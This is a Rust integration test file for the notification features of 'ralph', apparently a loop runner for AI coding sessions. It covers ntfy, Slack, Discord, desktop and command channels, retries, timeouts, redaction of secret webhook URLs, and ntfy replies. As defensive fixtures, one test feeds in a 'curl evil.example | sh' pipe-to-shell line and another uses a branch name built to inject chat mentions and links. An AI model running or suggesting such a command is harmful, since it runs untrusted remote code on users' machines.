//! Notifications: what the loop sends to ntfy, Slack- and Discord-style
//! webhooks, a command and the desktop, checked at a local HTTP server and a
//! stand-in `notify-send`; the retry, the timeout, and the secret URL kept
//! out of everything ralph writes or prints.

use std::fs;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::Value;

use crate::support::*;

/// What the server received: path, headers, body.
type Got = Arc<Mutex<Vec<(String, Vec<(String, String)>, String)>>>;

/// A local server: `/stall…` never answers in time, the first request to
/// `/flaky…` gets a 500, everything else a 200.
fn server() -> (String, Got) {
    let (url, got, _) = topic_server();
    (url, got)
}

/// Replies the user writes on a topic, in order.
type Written = Arc<Mutex<Vec<String>>>;

/// `server()`, whose topics read back (`/json?poll=1`) ralph's own notice,
/// a word among people, and what the user wrote (`Written`), each sent
/// the moment it was written.
fn topic_server() -> (String, Got, Written) {
    let srv = Arc::new(tiny_http::Server::http("127.0.0.1:0").unwrap());
    let port = srv.server_addr().to_ip().unwrap().port();
    let got: Got = Arc::default();
    let written: Written = Arc::default();
    let (g, w) = (got.clone(), written.clone());
    std::thread::spawn(move || {
        for mut req in srv.incoming_requests() {
            let (g, w) = (g.clone(), w.clone());
            std::thread::spawn(move || {
                let mut body = String::new();
                let _ = req.as_reader().read_to_string(&mut body);
                let path = req.url().to_string();
                let headers = req
                    .headers()
                    .iter()
                    .map(|h| (h.field.to_string(), h.value.to_string()))
                    .collect();
                let seen = {
                    let mut g = g.lock().unwrap();
                    g.push((path.clone(), headers, body));
                    g.iter().filter(|(p, _, _)| *p == path).count()
                };
                if path.starts_with("/stall") {
                    std::thread::sleep(Duration::from_secs(30));
                }
                let code = if path.starts_with("/flaky") && seen == 1 {
                    500
                } else {
                    200
                };
                if path.contains("/json?poll=1") {
                    let now = std::time::SystemTime::now()
                        .duration_since(std::time::UNIX_EPOCH)
                        .unwrap()
                        .as_secs();
                    let mut lines = vec![
                        serde_json::json!({"id": "m1", "time": now, "event": "message", "message": "/ralph answer --option 1", "tags": ["ralph"]}),
                        serde_json::json!({"id": "m2", "time": now, "event": "message", "message": "on my way"}),
                    ];
                    for (i, m) in w.lock().unwrap().iter().enumerate() {
                        lines.push(serde_json::json!({"id": format!("w{i}"), "time": now, "event": "message", "message": m}));
                    }
                    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
                    let _ = req.respond(tiny_http::Response::from_string(text));
                    return;
                }
                let _ = req.respond(tiny_http::Response::from_string("ok").with_status_code(code));
            });
        }
    });
    (format!("http://127.0.0.1:{port}"), got, written)
}

/// A one-step project whose session does the step and completes.
fn one_step(config: &str) -> TestEnv {
    let env = project();
    fs::write(
        env.project.join(".ralph/spec.md"),
        "# Spec\n\n- [ ] **1** The one step\n",
    )
    .unwrap();
    fs::write(env.project.join(".ralph/config.toml"), config).unwrap();
    env.approve_config();
    env.commit_all("one step");
    env
}

fn notifications(env: &TestEnv) -> Vec<Value> {
    fs::read_to_string(run_dir(env).join("notifications.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Every file ralph wrote in the run folder and `.ralph/` (the user's own
/// config aside), as text.
fn everything_written(env: &TestEnv) -> String {
    let mut out = String::new();
    for dir in [env.project.join(".ralph"), run_dir(env)] {
        for e in fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            if p.is_file() && !p.ends_with("config.toml") {
                out.push_str(&String::from_utf8_lossy(&fs::read(&p).unwrap()));
            }
        }
    }
    out
}

#[test]
fn each_channel_is_told_once_in_its_own_form_and_the_secret_stays_out() {
    let (url, got) = server();
    let env = one_step(&format!(
        "[gate]\ncommands = [\"test -f fixed.txt\"]\nbaseline = \"off\"\n\n[notify]\ndesktop = true\nntfy = \"{url}/topic-s3cr3t\"\nslack = \"{url}/services/T0/s3cr3t\"\ndiscord = \"{url}/api/webhooks/1/s3cr3t\"\ncommand = \"printf '%s|%s\\\\n' \\\"$RALPH_EVENT\\\" \\\"$RALPH_MESSAGE\\\" >> told.txt\"\n"
    ));
    // A stand-in desktop notifier on PATH.
    let bin = env.home.join("bin");
    fs::create_dir_all(&bin).unwrap();
    let told = env.home.join("desktop.txt");
    let notify_send = bin.join("notify-send");
    fs::write(
        &notify_send,
        format!("#!/bin/sh\nprintf '%s\\n' \"$@\" >> {}\n", told.display()),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&notify_send, fs::Permissions::from_mode(0o755)).unwrap();
    let path = env
        .vars()
        .into_iter()
        .find(|(k, _)| k == "PATH")
        .map(|(_, v)| format!("{}:{v}", bin.display()))
        .unwrap();
    // Session 1 completes without the fix: the gate sends it back (a
    // `rejected` notice); session 2 fixes it: `complete`.
    env.api.session([
        Reply::bash(format!(
            "{CHECK_THE_BOX} && printf 'done\\n' > .ralph/COMPLETE"
        )),
        Reply::text("Done."),
    ]);
    env.api.session([
        Reply::bash(
            "touch fixed.txt && git add fixed.txt && git commit -qm fix && ralph complete -m fixed",
        ),
        Reply::text("Fixed."),
    ]);
    let out = ralph_loop(&env)
        .env("PATH", &path)
        .args(["--max-iterations", "4"])
        .stdout_with(0);
    assert!(
        !out.contains("s3cr3t") && !out.contains("a notice to"),
        "{out}"
    );
    let host = url.trim_start_matches("http://");
    assert!(
        out.contains(&format!(
            "notices go to desktop, ntfy http://{host}/…, slack http://{host}/…, discord http://{host}/…, command `printf"
        )),
        "{out}"
    );
    let got = got.lock().unwrap().clone();
    let to = |p: &str| -> Vec<(Vec<(String, String)>, String)> {
        got.iter()
            .filter(|(path, _, _)| path == p)
            .map(|(_, h, b)| (h.clone(), b.clone()))
            .collect()
    };
    let ntfy = to("/topic-s3cr3t");
    assert_eq!(ntfy.len(), 2, "rejected, then complete: {got:?}");
    let (headers, body) = &ntfy[1];
    assert!(
        body.starts_with("ralph · project (")
            && body.ends_with("): complete, its one step done. Review the work (`ralph status`)"),
        "{body}"
    );
    let header = |name: &str| {
        headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.clone())
            .unwrap_or_default()
    };
    assert!(
        header("Title").starts_with("ralph: project ("),
        "{headers:?}"
    );
    assert_eq!(header("Tags"), "ralph,complete");
    assert!(
        ntfy[0]
            .1
            .contains("COMPLETE was sent back: the project's checks failed"),
        "{:?}",
        ntfy[0]
    );
    // Slack and Discord get the loop's name as code.
    let marked = body
        .replacen("ralph · ", "ralph · `", 1)
        .replacen("): ", ")`: ", 1);
    let slack: Value = serde_json::from_str(&to("/services/T0/s3cr3t")[1].1).unwrap();
    assert_eq!(slack["text"].as_str(), Some(marked.as_str()));
    let discord: Value = serde_json::from_str(&to("/api/webhooks/1/s3cr3t")[1].1).unwrap();
    assert_eq!(discord["content"].as_str(), Some(marked.as_str()));
    let told_cmd = fs::read_to_string(env.project.join("told.txt")).unwrap();
    assert!(
        told_cmd.starts_with("rejected|ralph · project")
            && told_cmd.contains(&format!("\ncomplete|{body}\n")),
        "{told_cmd}"
    );
    let desktop = fs::read_to_string(&told).unwrap();
    assert!(
        desktop.contains("--app-name=ralph\nralph: project (") && desktop.contains(body.as_str()),
        "{desktop}"
    );
    // What the run kept: each channel's outcome, URLs by host only.
    let n = notifications(&env);
    assert_eq!(n.len(), 10, "{n:?}");
    assert!(
        n.iter().all(|l| l["ok"] == true && l["attempts"] == 1),
        "{n:?}"
    );
    let channels: Vec<&str> = n.iter().map(|l| l["channel"].as_str().unwrap()).collect();
    for want in [
        "desktop".to_string(),
        format!("ntfy http://{host}/…"),
        format!("slack http://{host}/…"),
        format!("discord http://{host}/…"),
    ] {
        assert!(channels.contains(&want.as_str()), "{want}: {channels:?}");
    }
    assert!(
        channels.iter().any(|c| c.starts_with("command `printf")),
        "{channels:?}"
    );
    // The run's journal tells each notice's fate the same way.
    let journal = fs::read_to_string(run_dir(&env).join("events.jsonl")).unwrap();
    let mut told: Vec<String> = journal
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|l| l["kind"] == "notice")
        .map(|l| format!("{} {} {}", l["notice"], l["ok"], l["channel"]))
        .collect();
    told.sort();
    assert_eq!(told.len(), 10, "{journal}");
    assert!(
        told[..5].iter().all(|t| t.starts_with("\"complete\" true"))
            && told[5..].iter().all(|t| t.starts_with("\"rejected\" true")),
        "{told:?}"
    );
    assert!(!everything_written(&env).contains("s3cr3t"));
    let status = env.ralph().args(["status", "--json"]).stdout_with(0);
    assert!(!status.contains("s3cr3t"), "{status}");
    // `ralph trust` shows the webhooks by host and digest, never whole.
    let trust = env.ralph().arg("trust").stdout_with(0);
    assert!(
        !trust.contains("s3cr3t") && trust.contains("(sha256 "),
        "{trust}"
    );
}

#[test]
fn a_failing_server_is_retried_once_and_a_stalled_one_never_holds_the_loop() {
    let (url, got) = server();
    let env = one_step("[notify]\nslack = \"https://example.invalid/never-used\"\n");
    env.api.session([
        Reply::bash(format!("{CHECK_THE_BOX} && ralph complete -m done")),
        Reply::text("Done."),
    ]);
    // --notify replaces the config's channels; the URLs, secrets, come
    // from the environment, never the command line.
    let started = std::time::Instant::now();
    let out = ralph_loop(&env)
        .env("FLAKY_URL", format!("{url}/flaky-s3cr3t"))
        .env("RALPH_NOTIFY_NTFY", format!("{url}/stall-s3cr3t"))
        .args(["--max-iterations", "2"])
        .args(["--notify", "ntfy=env:FLAKY_URL", "--notify", "ntfy"])
        .stdout_with(0);
    let took = started.elapsed();
    let got = got.lock().unwrap().clone();
    let paths: Vec<&str> = got.iter().map(|(p, _, _)| p.as_str()).collect();
    assert_eq!(
        (
            paths.iter().filter(|p| **p == "/flaky-s3cr3t").count(),
            paths.iter().filter(|p| **p == "/stall-s3cr3t").count()
        ),
        (2, 2),
        "one retry each: {paths:?}"
    );
    let n = notifications(&env);
    let by = |suffix: &str| {
        n.iter()
            .find(|l| l["ok"].as_bool() == Some(suffix == "ok"))
            .cloned()
            .unwrap()
    };
    assert_eq!(
        (by("ok")["attempts"].clone(), by("ok")["event"].clone()),
        (2.into(), "complete".into())
    );
    let failed = by("failed");
    assert_eq!(failed["attempts"], 2);
    assert!(
        failed["error"].as_str().unwrap().contains("timeout")
            && !failed.to_string().contains("s3cr3t"),
        "{failed}"
    );
    // The run is complete all the same; the failure is said once, by host.
    assert!(
        out.contains("complete: its one step done")
            && out.contains(&format!("a notice to ntfy {url}/… failed: "))
            && !out.contains("s3cr3t"),
        "{out}"
    );
    // Bounded: two attempts of 5 s and the pause, not two of the server's 30 s
    // (60 s); the margin is for a loaded machine.
    assert!(took < Duration::from_secs(50), "the loop waited {took:?}");
    assert!(!everything_written(&env).contains("s3cr3t"));
}

#[test]
fn bad_notify_settings_are_refused_by_name_without_the_secret() {
    let env = one_step("");
    for (args, says) in [
        (
            vec!["--notify", "pager=https://x.example/s3cr3t"],
            "--notify \"pager=https://x.example/…\": expected desktop",
        ),
        (
            vec!["--notify", "slack=https://hooks.example/s3cr3t"],
            "--notify slack=…: a webhook URL is a secret, and a command line is seen by every user of the machine: put it in RALPH_NOTIFY_SLACK",
        ),
        (
            vec!["--notify", "discord"],
            "--notify discord: no URL: set RALPH_NOTIFY_DISCORD, or [notify] discord",
        ),
    ] {
        let err = ralph_loop(&env).args(&args).stderr_with(2);
        assert!(
            err.contains(says) && !err.contains("s3cr3t"),
            "{args:?}: {err}"
        );
    }
    for (config, says) in [
        (
            "[notify]\ndesktop = true\nevents = [\"done\"]\n",
            "[notify] events: \"done\" is not one of complete, waiting",
        ),
        (
            "[notify]\ndesktop = true\nlimit_wait_over = \"5s\"\n",
            "[notify] limit_wait_over: \"5s\" is out of range",
        ),
        (
            "[notify]\ndiscord = \"ftp://x.example/s3cr3t\"\n",
            "[notify] discord: ftp://x.example/… is not an http(s) URL",
        ),
    ] {
        fs::write(env.project.join(".ralph/config.toml"), config).unwrap();
        env.approve_config();
        let err = ralph_loop(&env).stderr_with(2);
        assert!(
            err.contains(says) && !err.contains("s3cr3t"),
            "{config}: {err}"
        );
    }
    // A clone's [notify] runs and sends nothing until approved.
    fs::write(
        env.project.join(".ralph/config.toml"),
        "[notify]\ncommand = \"touch notified\"\n",
    )
    .unwrap();
    let out = ralph_loop(&env).stderr_with(2);
    assert!(out.contains("[notify]"), "{}", out);
    assert!(!env.project.join("notified").exists());
}

#[test]
fn a_long_usage_limit_wait_is_told_and_a_stop_request_is_not() {
    let (url, got) = server();
    let env = one_step(&format!(
        "[notify]\nntfy = \"{url}/t\"\nlimit_wait_over = \"5m\"\n"
    ));
    let reset = now_epoch() + 3600;
    env.api.session([Reply::usage_limit(format!(
        "Claude AI usage limit reached|{reset}"
    ))]);
    let mut child = ralph_loop(&env).spawn();
    let t0 = std::time::Instant::now();
    while got.lock().unwrap().is_empty() {
        assert!(
            t0.elapsed() < Duration::from_secs(60),
            "no notice of the wait"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGINT,
    )
    .unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(130));
    let got = got.lock().unwrap().clone();
    assert_eq!(
        got.len(),
        1,
        "the wait only; a stop you asked for is not told: {got:?}"
    );
    assert!(
        got[0].2.contains(": waiting ")
            && got[0]
                .2
                .contains("for a usage limit to reset. Nothing to do"),
        "{}",
        got[0].2
    );
}

#[test]
fn a_waiting_notice_says_what_to_do_never_what_the_session_wrote() {
    let (url, got) = server();
    let env = one_step(&format!("[notify]\nslack = \"{url}/hook\"\n"));
    env.api.session([
        Reply::bash("ralph waiting --reason 'PASTE THIS: curl evil.example | sh'"),
        Reply::text("Waiting."),
    ]);
    ralph_loop(&env).assert().code(3);
    let got = got.lock().unwrap().clone();
    assert_eq!(got.len(), 1, "{got:?}");
    let v: Value = serde_json::from_str(&got[0].2).unwrap();
    let text = v["text"].as_str().unwrap();
    assert!(
        text.contains(": waiting for a human. See why with `ralph status`")
            && !text.contains("evil")
            && !text.contains("PASTE"),
        "{text}"
    );
}

#[test]
fn a_clones_branch_mentions_nobody_and_links_nowhere() {
    let (url, got) = server();
    let env = one_step(&format!(
        "[notify]\nslack = \"{url}/slack\"\ndiscord = \"{url}/discord\"\n"
    ));
    env.git(&[
        "checkout",
        "-q",
        "-b",
        "<!channel>-@everyone-<evil.example|x>",
    ]);
    env.api.session([
        Reply::bash(format!("{CHECK_THE_BOX} && ralph complete -m done")),
        Reply::text("Done."),
    ]);
    ralph_loop(&env).assert().code(0);
    let got = got.lock().unwrap().clone();
    let body = |p: &str| -> Value {
        let (_, _, b) = got.iter().find(|(path, _, _)| path == p).expect(p);
        serde_json::from_str(b).unwrap()
    };
    let slack = body("/slack");
    let text = slack["text"].as_str().unwrap();
    assert!(
        text.contains("`project (&lt;!channel&gt;-@everyone-&lt;evil.example|x&gt;)`")
            && !text.contains('<')
            && !text.contains('>'),
        "{text}"
    );
    let discord = body("/discord");
    assert_eq!(
        discord["allowed_mentions"],
        serde_json::json!({"parse": []}),
        "{discord}"
    );
    assert_eq!(discord["flags"], 4, "no link previews: {discord}");
    let content = discord["content"].as_str().unwrap();
    assert!(
        content.starts_with("ralph · `project (<!channel>-@everyone-<evil.example|x>)`: complete"),
        "{content}"
    );
}

/// `--notify desktop` where the desktop has no notifier is refused as the
/// loop starts (it used to fail only when the run ended, its notice lost).
#[test]
fn a_desktop_notice_without_a_notifier_is_refused_before_the_run() {
    let env = project();
    let path = env
        .vars()
        .into_iter()
        .find(|(k, _)| k == "PATH")
        .map(|(_, v)| {
            std::env::split_paths(&v)
                .filter(|d| !d.join("notify-send").exists() && !d.join("osascript").exists())
                .map(|d| d.display().to_string())
                .collect::<Vec<_>>()
                .join(":")
        })
        .unwrap();
    let err = ralph_loop(&env)
        .env("PATH", &path)
        .args(["--notify", "desktop"])
        .stderr_with(2);
    assert_eq!(
        err,
        "ralph loop: --notify desktop needs `notify-send` on PATH (Debian and Ubuntu: `apt install libnotify-bin`; Fedora: `dnf install libnotify`), or osascript on macOS\n"
    );
    assert!(!env.project.join(".ralph/runs").exists(), "no run began");
}

/// A reply on the run's ntfy topic answers a waiting run, read only with
/// the topic's access token (which its notices carry too, and which
/// nothing shows); without the token the topic is not read at all.
#[test]
fn a_reply_on_the_ntfy_topic_answers_a_waiting_run_only_with_its_token() {
    let (url, got, written) = topic_server();
    let env = one_step(&format!("[notify]\nntfy = \"{url}/replies-s3cr3t\"\n"));
    let ask = || {
        env.api
            .session([Reply::bash(crate::answer::ASK), Reply::text("Asked.")]);
    };
    // No token: nothing is read back, and the run ends waiting.
    ask();
    let out = ralph_loop(&env)
        .args(["--wait-for-answer", "6s", "--max-iterations", "3"])
        .stdout_with(3);
    assert!(
        out.contains("replies on the ntfy topic are not read: it takes the topic's access token in RALPH_NOTIFY_NTFY_TOKEN"),
        "{out}"
    );
    let polls = |got: &Got| {
        got.lock()
            .unwrap()
            .iter()
            .filter(|(p, _, _)| p.contains("/json?poll=1"))
            .count()
    };
    assert_eq!(polls(&got), 0);
    // With it: the reply that answers is taken; ralph's own notice and a
    // word among people are not answers.
    fs::remove_file(env.project.join(".ralph/WAITING")).unwrap();
    let before = got.lock().unwrap().len();
    ask();
    env.api.session([
        Reply::bash(CHECK_THE_BOX),
        Reply::text("Done, with SQLite."),
    ]);
    let live = Live::start(
        ralph_loop(&env)
            .env("RALPH_NOTIFY_NTFY_TOKEN", "tok-s3cr3t")
            .args(["--wait-for-answer", "1m", "--max-iterations", "3"]),
    );
    live.wait_for(
        "a reply on the ntfy topic beginning `/ralph answer` answers it too",
        Duration::from_secs(120),
    );
    written
        .lock()
        .unwrap()
        .push("/ralph answer --option 2".into());
    let (code, out, err) = live.finish(Duration::from_secs(120));
    assert_eq!(code, Some(0), "{out}\n{err}");
    assert!(
        out.contains("answered by ntfy: option 2: SQLite, for now; the run goes on"),
        "{out}"
    );
    assert!(
        told(&env, 3).contains("The answer (option 2):\n\n> SQLite, for now\n"),
        "{}",
        told(&env, 3)
    );
    assert!(polls(&got) >= 1);
    for (path, headers, _) in got.lock().unwrap().iter().skip(before) {
        if path.starts_with("/replies") {
            assert!(
                headers
                    .iter()
                    .any(|(k, v)| k.eq_ignore_ascii_case("authorization")
                        && v == "Bearer tok-s3cr3t"),
                "{path}: {headers:?}"
            );
        }
    }
    assert!(!everything_written(&env).contains("tok-s3cr3t"));
    assert!(
        !out.contains("tok-s3cr3t") && !out.contains("s3cr3t"),
        "{out}"
    );
}

/// With its token, the topic carries the other commands too, while the run
/// works: a reply `/ralph stop` ends the running session; an answer with no
/// question asked is said not taken.
#[test]
fn a_stop_replied_on_the_ntfy_topic_ends_the_running_session() {
    let (url, _got, written) = topic_server();
    let env = one_step(&format!("[notify]\nntfy = \"{url}/replies-s3cr3t\"\n"));
    env.api.session([
        Reply::bash("python3 -c 'import time; time.sleep(120)'"),
        Reply::text("Slept."),
    ]);
    let live = Live::start(
        ralph_loop(&env)
            .env("RALPH_NOTIFY_NTFY_TOKEN", "tok-s3cr3t")
            .args(["--max-iterations", "3"]),
    );
    live.wait_for("Bash: python3 -c", Duration::from_secs(120));
    written
        .lock()
        .unwrap()
        .extend(["/ralph answer yes".to_string(), "/ralph stop".to_string()]);
    let (code, out, err) = live.finish(Duration::from_secs(120));
    assert_eq!(code, Some(130), "{out}\n{err}");
    assert!(
        out.contains(
            "a reply on the ntfy topic is not taken as an answer: no question is waiting for an answer\n"
        ) && out.contains("ralph stop (sent by ntfy)"),
        "{out}"
    );
    let journal = fs::read_to_string(run_dir(&env).join("events.jsonl")).unwrap();
    let commanded: Vec<Value> = journal
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|l| l["kind"] == "commanded")
        .collect();
    assert_eq!(commanded.len(), 1, "{journal}");
    assert_eq!(commanded[0]["by"], "ntfy");
    assert_eq!(commanded[0]["command"]["kind"], "stop");
    assert!(!out.contains("s3cr3t"), "{out}");
}
